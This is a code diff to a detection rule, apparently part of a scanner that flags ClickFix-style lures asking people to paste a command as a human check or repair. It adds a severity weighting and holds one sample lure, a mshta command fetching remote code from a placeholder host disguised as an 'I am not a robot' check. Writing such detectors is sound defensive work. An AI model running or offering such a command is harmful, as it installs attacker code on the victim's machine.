@@ -1,5 +1,5 @@
 /** RC-06: a person is to paste a command into the run dialog or a terminal, as a check or a repair. */
-import { lines } from '../../engine/example.ts';
+import { lines, weighed } from '../../engine/example.ts';
 import { pattern, raw } from '../../engine/pattern.ts';
 import { row, type Row } from '../../engine/rule.ts';
 
@@ -35,6 +35,7 @@ export const humanChecks: readonly Row[] = [
     spares: ['Press `Win` + `R`, type `shell:startup` and paste the shortcut into the folder.'],
   }),
   row('a command pretends to be a check for humans', {
+    alone: 'medium',
     in: [...spoken, 'fence', 'decoded'],
     within: 'line',
     match: pattern(
@@ -44,7 +45,7 @@ export const humanChecks: readonly Row[] = [
       raw(String.raw`\b(?:human|robot|captcha|cloudflare|verif(?:y|ication|ied))\b`),
     ),
     severity: 'critical',
-    catches: ['Paste `mshta https://check.invalid/v # I am not a robot - check 12`.'],
+    catches: [weighed('critical', 'Paste `mshta https://check.invalid/v # I am not a robot - check 12`.')],
     spares: [
       'Run `curl -I https://acme.example # verifies that the page answers`.',
       'If `powershell` does not find it, add it to the path as in [Check](/docs/install#verify-your-path).',
